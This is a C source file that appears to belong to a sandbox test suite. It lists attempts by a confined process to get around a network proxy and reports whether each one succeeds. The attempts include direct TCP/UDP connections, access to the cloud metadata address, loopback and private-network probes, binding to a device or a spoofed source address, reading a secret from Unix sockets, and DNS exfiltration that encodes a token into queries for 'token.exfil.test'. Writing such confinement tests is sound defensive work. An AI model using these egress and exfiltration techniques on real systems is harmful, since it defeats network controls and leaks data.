/* Round the proxy: streams and datagrams to the world, over every family that could carry them. */
#include <errno.h>
#include <linux/mptcp.h>
#include <netdb.h>
#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

enum {
	PROTO_UDPLITE = 136,
	PROTO_DCCP = 33,
	TYPE_DCCP = 6,
	QUIET_MS = 400,
	DNS_PORT = 53,
};

/* ---- streams ---- */

struct stream {
	const char *to;
	uint16_t port;
	int type, protocol; /* 0: plain TCP */
};

/* Sends the token when fd is connected. */
static enum result tell(const struct attempt *a, int fd)
{
	const char *token = token_of(a);

	if (!send_all(fd, token, strlen(token)))
		return no("send");
	note("connected, and bytes were sent");
	return SENT;
}

static enum result stream(const struct attempt *a)
{
	const struct stream *s = a->with;
	struct sockaddr_storage to;
	socklen_t n = address(&to, s->to, s->port);
	_cleanup_close_ int fd =
		socket(to.ss_family, (s->type ? s->type : SOCK_STREAM) | SOCK_CLOEXEC, s->protocol);

	if (fd < 0)
		return no("socket");
	return connect_soon(fd, &to, n) < 0 ? no("connect") : tell(a, fd);
}

static enum result fast_open(const struct attempt *a)
{
	struct sockaddr_storage to;
	socklen_t n = address(&to, OUTSIDE4, ANY_PORT);
	const char *token = token_of(a);
	_cleanup_close_ int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return no("socket");
	if (sendto(fd, token, strlen(token), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&to,
		   n) < 0)
		return no("sendto(MSG_FASTOPEN)");
	note("sent with the SYN");
	return SENT;
}

/* By a device, whatever the routes say. */
static enum result by_device(const struct attempt *a)
{
	struct sockaddr_storage to;
	socklen_t n = address(&to, OUTSIDE4, ANY_PORT);
	_cleanup_close_ int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return no("socket");
	if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 2) < 0)
		return no("setsockopt(SO_BINDTODEVICE)");
	return connect_soon(fd, &to, n) < 0 ? no("connect") : tell(a, fd);
}

/* From an address that is not this namespace's. */
static enum result from_elsewhere(const struct attempt *a)
{
	struct sockaddr_storage to, from;
	socklen_t n = address(&to, OUTSIDE4, ANY_PORT), n_from = address(&from, "1.2.3.99", 0);
	const int on = 1;
	_cleanup_close_ int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return no("socket");
	if (setsockopt(fd, SOL_IP, IP_TRANSPARENT, &on, sizeof on) < 0 ||
	    bind(fd, (struct sockaddr *)&from, n_from) < 0)
		return no("bind to a foreign address");
	const char *token = token_of(a);
	if (sendto(fd, token, strlen(token), 0, (struct sockaddr *)&to, n) < 0)
		return no("sendto");
	note("sent from 1.2.3.99");
	return SENT;
}

static enum result abstract_socket(const struct attempt *a UNUSED)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "\0attack-victim"};
	char text[64];
	_cleanup_close_ int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return no("socket");
	if (connect(fd, (struct sockaddr *)&to,
		    offsetof(struct sockaddr_un, sun_path) + sizeof "\0attack-victim" - 1) < 0)
		return no("connect");
	read_for(fd, text, sizeof text, QUIET_MS);
	note("the victim answers: %s", text);
	return strcmp(text, SECRET) == 0 ? GOT : REFUSED;
}

static enum result path_socket(const struct attempt *a UNUSED)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = TOP "/outside/socket"};
	char text[64];
	_cleanup_close_ int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return no("socket");
	if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
		return no("connect");
	read_for(fd, text, sizeof text, QUIET_MS);
	note("the victim answers: %s", text);
	return strcmp(text, SECRET) == 0 ? GOT : REFUSED;
}

#define TO(...)                                                                                    \
	&(const struct stream)                                                                     \
	{                                                                                          \
		__VA_ARGS__                                                                        \
	}

static const struct attempt direct[] = {
	{.name = "tcp4",
	 .what = "connect to an IPv4 address",
	 .try = stream,
	 .with = TO(.to = OUTSIDE4, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp6",
	 .what = "connect to an IPv6 address",
	 .try = stream,
	 .with = TO(.to = OUTSIDE6, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-mapped",
	 .what = "connect to an IPv4 address by an IPv6 socket",
	 .try = stream,
	 .with = TO(.to = "::ffff:" OUTSIDE4, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-nat64",
	 .what = "connect by the well-known NAT64 prefix",
	 .try = stream,
	 .with = TO(.to = "64:ff9b::a9fe:a9fe", .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-allowed",
	 .what = "connect to an allowed server, but not by the proxy",
	 .try = stream,
	 .with = TO(.to = ALLOWED4, .port = REST_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-metadata",
	 .what = "connect to the cloud's metadata address",
	 .try = stream,
	 .with = TO(.to = "169.254.169.254", .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-internal",
	 .what = "connect to a private network of the host",
	 .try = stream,
	 .with = TO(.to = "10.99.0.1", .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-loopback",
	 .what = "connect to a service on the host's 127.0.0.1",
	 .try = stream,
	 .with = TO(.to = "127.0.0.1", .port = LOOPBACK_PORT),
	 .works = ON_HOST},
	{.name = "tcp6-loopback",
	 .what = "connect to a service on the host's ::1",
	 .try = stream,
	 .with = TO(.to = "::1", .port = LOOPBACK_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-any",
	 .what = "connect to 0.0.0.0, which is this host",
	 .try = stream,
	 .with = TO(.to = "0.0.0.0", .port = LOOPBACK_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-dns",
	 .what = "connect to a name server, as DNS over TCP does",
	 .try = stream,
	 .with = TO(.to = DNS4, .port = DNS_PORT),
	 .works = ON_HOST},
	{.name = "tcp4-fastopen",
	 .what = "send with the SYN, without connect()",
	 .try = fast_open,
	 .works = ON_HOST},
	{.name = "tcp4-device",
	 .what = "connect by a device (SO_BINDTODEVICE), whatever the routes say",
	 .try = by_device,
	 .works = ON_HOST},
	{.name = "mptcp4",
	 .what = "connect by Multipath TCP",
	 .try = stream,
	 .with = TO(.to = OUTSIDE4, .port = ANY_PORT, .protocol = IPPROTO_MPTCP),
	 .works = ON_HOST},
	{.name = "sctp4",
	 .what = "connect by SCTP",
	 .try = stream,
	 .with = TO(.to = OUTSIDE4, .port = ANY_PORT, .protocol = IPPROTO_SCTP),
	 .works = ON_HOST,
	 .uncontrolled = "nothing listens for SCTP"},
	{.name = "dccp4",
	 .what = "connect by DCCP",
	 .try = stream,
	 .with = TO(.to = OUTSIDE4, .port = ANY_PORT, .type = TYPE_DCCP, .protocol = PROTO_DCCP),
	 .works = ON_HOST,
	 .uncontrolled = "nothing listens for DCCP"},
	{.name = "unix-abstract",
	 .what = "connect to an abstract Unix socket of a process outside",
	 .try = abstract_socket},
	{.name = "unix-path",
	 .what = "connect to a Unix socket in a folder that the policy does not give, mode 0666",
	 .try = path_socket,
	 .against = LANDLOCK_9 | VIEW},
};
GROUP(group_direct, "Streams round the proxy", direct);

/* ---- datagrams ---- */

struct datagram {
	const char *to;
	uint16_t port;
	int protocol;
	enum { SENDTO, CONNECTED, BROADCAST, MANY } how;
};

static enum result send_it(const struct attempt *a, int fd, const struct sockaddr_storage *to,
			   socklen_t n)
{
	const struct datagram *d = a->with;
	const char *token = token_of(a);
	struct iovec io = {.iov_base = (char *)token, .iov_len = strlen(token)};
	struct mmsghdr m = {
		.msg_hdr = {
			.msg_name = (void *)to, .msg_namelen = n, .msg_iov = &io, .msg_iovlen = 1}};
	const int on = 1;

	if (d->how == BROADCAST && setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on) < 0)
		return no("setsockopt(SO_BROADCAST)");
	if (d->how == CONNECTED && connect(fd, (const struct sockaddr *)to, n) < 0)
		return no("connect");
	if (d->how == CONNECTED && send(fd, token, strlen(token), 0) < 0)
		return no("send");
	if (d->how == MANY && sendmmsg(fd, &m, 1, 0) != 1)
		return no("sendmmsg");
	if ((d->how == SENDTO || d->how == BROADCAST) &&
	    sendto(fd, token, strlen(token), 0, (const struct sockaddr *)to, n) < 0)
		return no("sendto");
	note("sent");
	return SENT;
}

static enum result datagram(const struct attempt *a)
{
	const struct datagram *d = a->with;
	struct sockaddr_storage to;
	socklen_t n = address(&to, d->to, d->port);
	_cleanup_close_ int fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, d->protocol);

	return fd < 0 ? no("socket") : send_it(a, fd, &to, n);
}

/* A question for token.exfil.test: the bytes that leave are the name. */
static enum result dns_question(const struct attempt *a)
{
	const struct datagram *d = a->with;
	unsigned char q[160] = {0x41, 0x54, 1, 0, 0, 1};
	const char *labels[] = {token_of(a), "exfil", "test"};
	size_t at = 12;

	for (size_t i = 0; i < ARRAY_LEN(labels); i++) {
		size_t n = strlen(labels[i]);

		q[at++] = (unsigned char)n;
		memcpy(q + at, labels[i], n);
		at += n;
	}
	at++;
	memcpy(q + at, "\0\1\0\1", 4);
	at += 4;
	struct sockaddr_storage to;
	socklen_t n = address(&to, d->to, d->port);
	_cleanup_close_ int fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return no("socket");
	if (sendto(fd, q, at, 0, (struct sockaddr *)&to, n) < 0)
		return no("sendto");
	note("asked");
	return SENT;
}

static enum result dns_by_libc(const struct attempt *a)
{
	char name[120];
	struct addrinfo *found = NULL;

	snprintf(name, sizeof name, "%s.exfil.test", token_of(a));
	int e = getaddrinfo(name, "80", NULL, &found);
	note("getaddrinfo: %s", e ? gai_strerror(e) : "found");
	if (found)
		freeaddrinfo(found);
	return SENT;
}

static enum result ping(const struct attempt *a)
{
	const struct datagram *d = a->with;
	struct sockaddr_storage to;
	socklen_t n = address(&to, d->to, 0);
	char text[128];
	struct icmphdr h = {.type = to.ss_family == AF_INET ? ICMP_ECHO : ICMP6_ECHO_REQUEST};
	_cleanup_close_ int fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, d->protocol);

	if (fd < 0)
		return no("socket");
	if (sendto(fd, &h, sizeof h, 0, (struct sockaddr *)&to, n) < 0)
		return no("sendto");
	size_t got = read_for(fd, text, sizeof text, QUIET_MS);
	note("%zu bytes came back", got);
	return got ? GOT : REFUSED;
}

#define GRAM(...)                                                                                  \
	&(const struct datagram)                                                                   \
	{                                                                                          \
		__VA_ARGS__                                                                        \
	}

static const struct attempt datagrams[] = {
	{.name = "udp4",
	 .what = "send a datagram to an IPv4 address",
	 .try = datagram,
	 .with = GRAM(.to = OUTSIDE4, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "udp4-connected",
	 .what = "the same by connect() and send()",
	 .try = datagram,
	 .with = GRAM(.to = OUTSIDE4, .port = ANY_PORT, .how = CONNECTED),
	 .works = ON_HOST},
	{.name = "udp4-many",
	 .what = "the same by sendmmsg()",
	 .try = datagram,
	 .with = GRAM(.to = OUTSIDE4, .port = ANY_PORT, .how = MANY),
	 .works = ON_HOST},
	{.name = "udp6",
	 .what = "send a datagram to an IPv6 address",
	 .try = datagram,
	 .with = GRAM(.to = OUTSIDE6, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "udp4-mapped",
	 .what = "send to an IPv4 address by an IPv6 socket",
	 .try = datagram,
	 .with = GRAM(.to = "::ffff:" OUTSIDE4, .port = ANY_PORT),
	 .works = ON_HOST},
	{.name = "udp4-loopback",
	 .what = "send to the host's 127.0.0.1",
	 .try = datagram,
	 .with = GRAM(.to = "127.0.0.1", .port = LOOPBACK_PORT),
	 .works = ON_HOST},
	{.name = "udp4-broadcast",
	 .what = "send to everybody on the link",
	 .try = datagram,
	 .with = GRAM(.to = "1.2.3.255", .port = ANY_PORT, .how = BROADCAST),
	 .works = ON_HOST,
	 .uncontrolled = "lo has no broadcasts"},
	{.name = "udp4-multicast",
	 .what = "send to a multicast group",
	 .try = datagram,
	 .with = GRAM(.to = "224.0.0.251", .port = 5353),
	 .works = ON_HOST},
	{.name = "udp4-foreign",
	 .what = "send from an address of somebody else",
	 .try = from_elsewhere},
	{.name = "udplite4",
	 .what = "send by UDP-Lite",
	 .try = datagram,
	 .with = GRAM(.to = OUTSIDE4, .port = ANY_PORT, .protocol = PROTO_UDPLITE),
	 .works = ON_HOST},
	{.name = "dns-udp4",
	 .what = "put bytes into a question to a name server",
	 .try = dns_question,
	 .with = GRAM(.to = DNS4, .port = DNS_PORT),
	 .works = ON_HOST},
	{.name = "dns-loopback",
	 .what = "the same to the host's own resolver",
	 .try = dns_question,
	 .with = GRAM(.to = "127.0.0.1", .port = DNS_PORT),
	 .works = ON_HOST},
	{.name = "dns-libc",
	 .what = "the same by the C library",
	 .try = dns_by_libc,
	 .works = ON_HOST,
	 .slow = true},
	{.name = "ping4",
	 .what = "get an answer to an ICMP echo",
	 .try = ping,
	 .with = GRAM(.to = OUTSIDE4, .protocol = IPPROTO_ICMP),
	 .works = ON_HOST},
	{.name = "ping6",
	 .what = "get an answer to an ICMPv6 echo",
	 .try = ping,
	 .with = GRAM(.to = OUTSIDE6, .protocol = IPPROTO_ICMPV6),
	 .works = ON_HOST},
};
GROUP(group_datagrams, "Datagrams and names round the proxy", datagrams);
